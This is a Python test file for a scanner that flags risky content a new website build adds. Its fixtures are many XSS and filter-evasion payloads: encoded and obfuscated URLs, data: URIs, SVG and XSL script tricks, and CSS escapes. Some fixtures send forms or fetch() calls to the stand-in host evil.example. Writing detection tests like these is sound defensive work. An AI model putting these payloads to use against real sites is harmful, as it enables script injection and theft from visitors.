"""What a new build adds that can hurt visitors."""

from __future__ import annotations

import time
from base64 import b64encode
from collections.abc import Mapping
from pathlib import Path

import pytest

from webordinary.contract.messages.outcome import Risk
from webordinary.contract.outcomes import RiskKind
from webordinary_worker.confinement.limits import Limits
from webordinary_worker.deploy import site_risks
from webordinary_worker.deploy.built_files import SiteFiles
from webordinary_worker.deploy.site_risks import NOT_COMPARED, SiteRisks, read_risks, risks_of

OWN = ("bakery.example.com",)
EVIL = "<script>alert(1)</script>"
IMPORT = b'@import "//evil.example"'
TRANSFORMATION = "<a xmlns:x='http://www.w3.org/1999/XSL/Transform'><x:element name='script'/></a>"
FRAME = "<html><body>{}</body></html>"
BEFORE = {
    "index.html": FRAME.format('<a href="https://old.example/">x</a><script src="https://cdn.example/a.js"></script>')
}


def risks_in(folder: Path, files: Mapping[str, str | bytes]) -> SiteRisks:
    for path, content in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(content.encode() if isinstance(content, str) else content)
    site = SiteFiles(folder, None, Limits().site)
    return risks_of(site, site.digests(), OWN)


def added(
    tmp_path: Path, files: Mapping[str, str | bytes], before: Mapping[str, str | bytes] = BEFORE
) -> set[tuple[RiskKind, str]]:
    old, new = (risks_in(tmp_path / name, each) for name, each in (("old", before), ("new", {**before, **files})))
    return {(risk.kind, risk.detail) for risk in new.new_since(old)}


@pytest.mark.parametrize(
    ("markup", "kind", "detail"),
    [
        ('<a href="https://evil.example/x">y</a>', RiskKind.LINKED_HOST, "evil.example"),
        ("See https://evil.example now.", RiskKind.LINKED_HOST, "evil.example"),
        ('<img src="//evil.example/x.png">', RiskKind.LOADED_HOST, "evil.example"),
        ('<img srcset="a.png 1x, https://evil.example/x.png 2x">', RiskKind.LOADED_HOST, "evil.example"),
        ('<link rel="stylesheet" rel="canonical" href="https://evil.example/x">', RiskKind.LOADED_HOST, "evil.example"),
        ('<link rel=canonical href="https://evil.example/x">', RiskKind.LINKED_HOST, "evil.example"),
        ('<script src="https://evil.example/x.js"></script>', RiskKind.SCRIPT, "evil.example"),
        ('<script data-x="<a " src=https://evil.example></script>', RiskKind.SCRIPT, "evil.example"),
        ("<script>alert(1)</script>", RiskKind.SCRIPT, "page.html"),
        ("<script type='text/javascript'>alert(1)</script>", RiskKind.SCRIPT, "page.html"),
        ('<img src="x" onerror="alert(1)">', RiskKind.SCRIPT, "page.html"),
        ('<a href="java\nscript:alert(1)">x</a>', RiskKind.SCRIPT, "page.html"),
        ("<svg/onload=alert(1)>", RiskKind.SCRIPT, "page.html"),
        ('<form action="https://evil.example/take">', RiskKind.FORM, "evil.example"),
        ('<button formaction="https://evil.example/take">', RiskKind.FORM, "evil.example"),
        ('<iframe data-x="<" src="https://evil.example/">', RiskKind.FRAME, "evil.example"),
        ('<object data="https://evil.example/">', RiskKind.FRAME, "evil.example"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', RiskKind.REDIRECT, "evil.example"),
        ('<meta content="0; https://evil.example/" http-equiv=Refresh>', RiskKind.REDIRECT, "evil.example"),
        ("<script>navigator.serviceWorker.register('/sw.js')</script>", RiskKind.SERVICE_WORKER, "page.html"),
        ("<style>@import '\\68ttps://evil.example/x.css';</style>", RiskKind.LOADED_HOST, "evil.example"),
        ('<img src="ht\ntps://ev\til.example/x.png">', RiskKind.LOADED_HOST, "evil.example"),
        ('<img src="&#104;ttps://evil.example/x.png">', RiskKind.LOADED_HOST, "evil.example"),
        ('<img src="https:\\\\evil%2eexample/x.png">', RiskKind.LOADED_HOST, "evil.example"),
        ('<img src="https://3232235777/x.png">', RiskKind.LOADED_HOST, "3232235777"),
        ('<img alt=">" src="https://evil.example/x.png" title="<">', RiskKind.LOADED_HOST, "evil.example"),
        ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">', RiskKind.SCRIPT, "page.html"),
        ('<base href="//evil.example/">', RiskKind.LOADED_HOST, "evil.example"),
        ('<link rel="preload" as="script" href="//evil.example/a">', RiskKind.LOADED_HOST, "evil.example"),
        ('<a href="/x" ping="//evil.example/a">', RiskKind.LOADED_HOST, "evil.example"),
        ('<a href="intent://evil.example#Intent;end">', RiskKind.LINKED_HOST, "evil.example"),
        ('<form action="mailto:a@evil.example?subject=x">', RiskKind.FORM, "evil.example"),
        # Addresses as browsers read them.
        ('<img src="/\n/evil.example/a?<">', RiskKind.LOADED_HOST, "evil.example"),
        ('<img src="\x01//evil.example/a">', RiskKind.LOADED_HOST, "evil.example"),
        ('<img src="https:////////////evil.example/a">', RiskKind.LOADED_HOST, "evil.example"),
        ('<img src="////////////evil.example/a">', RiskKind.LOADED_HOST, "evil.example"),
        *(
            (f'<img src="https://bakery.example.com{user}@evil.example/a">', RiskKind.LOADED_HOST, "evil.example")
            for user in (",", ";", "'", " ", "(", "<", ":x,")
        ),
        # Scripts that only a browser sees.
        ('<script src="data:text/javascript,alert(1)"></script>', RiskKind.SCRIPT, "page.html"),
        ('<iframe src="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E">', RiskKind.SCRIPT, "page.html"),
        ('<iframe src="da\nta:text/html;base64,AAAA">', RiskKind.SCRIPT, "page.html"),
        (
            f'<object data="data:image/svg+xml;base64,{b64encode(EVIL.encode()).decode()}">',
            RiskKind.SCRIPT,
            "page.html",
        ),
        (f"<script x=a\u00a0type=application/json>{EVIL}", RiskKind.SCRIPT, "page.html"),
        (f"<script x=a\x0btype=application/json>{EVIL}", RiskKind.SCRIPT, "page.html"),
        (f'<script data-x="{"x" * 5000}">alert(1)</script>', RiskKind.SCRIPT, "page.html"),
        ("<script type='text/javascript1.5'>alert(1)</script>", RiskKind.SCRIPT, "page.html"),
        ("<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", RiskKind.SCRIPT, "page.html"),
        # Styles.
        ("<p style='background:url(\\2f\\2f evil.example/x)'>", RiskKind.LOADED_HOST, "evil.example"),
        ("<style>a{background:url(ht\\tps://evil.example/x)}</style>", RiskKind.LOADED_HOST, "evil.example"),
        ("<style>a{background:url('ht\\\ntps://evil.example/x')}</style>", RiskKind.LOADED_HOST, "evil.example"),
        (
            '<link rel=stylesheet href="data:text/css,@import%20%27%2f%2fevil.example%27">',
            RiskKind.LOADED_HOST,
            "evil.example",
        ),
    ],
)
def test_new_risk_of_a_page_is_found(tmp_path: Path, markup: str, kind: RiskKind, detail: str) -> None:
    found = added(tmp_path, {"page.html": FRAME.format(markup)})

    assert [one for one in found if one[0] is kind and detail in one[1]], found


@pytest.mark.parametrize(
    ("path", "text", "kind", "detail"),
    [
        ("sw.js", "self.addEventListener('fetch', e => e)", RiskKind.SCRIPT, "sw.js"),
        ("_astro/page.D1a2b3c4.js", "fetch('https://evil.example')", RiskKind.LOADED_HOST, "evil.example"),
        ("_astro/x.css", "a{background:url(//evil.example/x)}", RiskKind.LOADED_HOST, "evil.example"),
        ("picture.svg", "<svg><script>alert(1)</script></svg>", RiskKind.SCRIPT, "picture.svg"),
        ("picture.svg", "<svg><s:script>alert(1)</s:script></svg>", RiskKind.SCRIPT, "picture.svg"),
        (
            "picture.svg",
            '<!DOCTYPE svg [<!ENTITY j "j">]><svg><a href="&j;avascript:alert(1)"/></svg>',
            RiskKind.SCRIPT,
            "picture.svg",
        ),
        (
            "picture.svg",
            "<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'alert(1)'>]><svg></svg>",
            RiskKind.SCRIPT,
            "picture.svg",
        ),
        (
            "feed.xml",
            f"<?xml-stylesheet type='text/xsl' href='#a'?>{TRANSFORMATION}",
            RiskKind.SCRIPT,
            "feed.xml",
        ),
        ("picture.svg", f"<svg><script type='text/x'>{EVIL}</script></svg>", RiskKind.SCRIPT, "picture.svg"),
        ("picture.svg", f"<svg><script type='text/x'/>{EVIL}</svg>", RiskKind.SCRIPT, "picture.svg"),
        ("_astro/x.xsl", f"<html>{EVIL}</html>", RiskKind.SCRIPT, "_astro/x.xsl"),
        ("page.html", ("\ufeff" + EVIL).encode("utf-16-le"), RiskKind.SCRIPT, "page.html"),
        ("page.html", ("\ufeff" + EVIL).encode("utf-16-be"), RiskKind.SCRIPT, "page.html"),
        ("picture.svg", f"<svg>{EVIL}</svg>".encode("utf-16-le"), RiskKind.SCRIPT, "picture.svg"),
        (
            "x.css",
            f"@import 'data:text/css;base64,{b64encode(IMPORT).decode()}';",
            RiskKind.LOADED_HOST,
            "evil.example",
        ),
        ("ads.txt", "evil.example", RiskKind.FILE, "ads.txt"),
        ("_redirects", "/ https://evil.example", RiskKind.FILE, "_redirects"),
        ("menu.pdf", "%PDF", RiskKind.FILE, "menu.pdf"),
    ],
)
def test_new_risk_of_another_file_is_found(
    tmp_path: Path, path: str, text: str | bytes, kind: RiskKind, detail: str
) -> None:
    assert (kind, detail) in added(tmp_path, {path: text})


@pytest.mark.parametrize(
    "code",
    [
        '<script>a = "&lt;/script&gt;"; {}</script>',
        '<script>a = "</script\x0b>"; {}</script>',
        "<script><!-- <script></script>{}</script>",
        '<script><![CDATA[ "</script>"; {} ]]></script>',
        '<p onclick="a=&quot;x&quot;; {}">',
        '<a href="javascript:void(0); {}">',
        "<a href=\"javascript:run('x'); {}\">",
        "<script>page.{}.map(run)</script>",
    ],
)
def test_change_of_known_code_is_found(tmp_path: Path, code: str) -> None:
    """A harmless script is approved, and later a part of it changes that only a browser reads as its part."""
    before, after = ({"index.html": FRAME.format(code.format(words))} for words in ("welcome", "malicious"))

    assert (RiskKind.SCRIPT, "index.html") in added(tmp_path, after, before)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("other.html", BEFORE["index.html"].replace("<body>", "<body><p>More words</p>")),
        ("index.html", BEFORE["index.html"] + '<a href="/menu">m</a><img src="/a.png"><form action="/s"></form>'),
        ("page.html", '<a href="https://bakery.example.com/menu">m</a><svg xmlns="http://www.w3.org/2000/svg"></svg>'),
        ("uploads/a.webp", "picture"),
        ("page.html", "<img src='data:image/png;base64,AAAA'><img src=\"data:image/svg+xml,%3Csvg/%3E\">"),
        ("page.html", "<p>https://bakery.example.com or bob@bakery.example.com or a@mail.example</p>"),
        ("page.html", '<script type="application/json">{"a": "b"}</script>'),
        ("picture.svg", "<!DOCTYPE svg [<!ENTITY a 'http://www.w3.org/2000/svg/'>]><svg xmlns='&a;'></svg>"),
    ],
)
def test_harmless_or_known_content_is_no_risk(tmp_path: Path, path: str, text: str) -> None:
    assert added(tmp_path, {path: text}) == set()


def test_new_hash_in_the_name_of_a_script_is_no_risk(tmp_path: Path) -> None:
    before = {"index.html": "<script>import './a.D1a2b3c4.js'</script>", "_astro/a.D1a2b3c4.js": "run()"}
    after = {"index.html": "<script>import './a.D9z8y7x6.js'</script>", "_astro/a.D9z8y7x6.js": "run()"}

    assert added(tmp_path, after, before) == set()


def test_more_pages_than_are_compared_are_searched(tmp_path: Path) -> None:
    pages = {f"{number:03}.html": FRAME.format(number) for number in range(200)}

    assert added(tmp_path, {**pages, "199.html": '<img src="https://evil.example/x">'}) == {
        (RiskKind.LOADED_HOST, "evil.example")
    }


def test_site_that_is_too_large_is_reported_as_not_compared(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(site_risks, "MAX_SCANNED_BYTES", 10)

    assert risks_in(tmp_path, BEFORE).new_since(SiteRisks({})) == (NOT_COMPARED,)
    assert SiteRisks({}).new_since(None) == (Risk(kind=RiskKind.NOT_COMPARED),)


def test_recorded_risks_are_read_again(tmp_path: Path) -> None:
    risks = risks_in(tmp_path, BEFORE)

    assert read_risks(risks.lines()) == risks
    assert read_risks(None) is None


# Openings without an end, which a careless search follows to the end of the page again and again.
MANY = [
    "<script type=x>",
    "<script type=x><!--",
    "<x:script type=x><![CDATA[",
    "data:,%",
    "data:;base64,A",
    "='",
    "//a@",
]


@pytest.mark.parametrize(
    "piece", ["<meta ", "<a href='", "<script>", "<iframe src=", "&lt;", "https://", '="\n', *MANY]
)
def test_hostile_page_is_searched_in_time(tmp_path: Path, piece: str) -> None:
    started = time.process_time()
    risks_in(tmp_path, {"index.html": piece * (200_000 // len(piece))})

    assert time.process_time() - started < 60  # only a hang reaches it
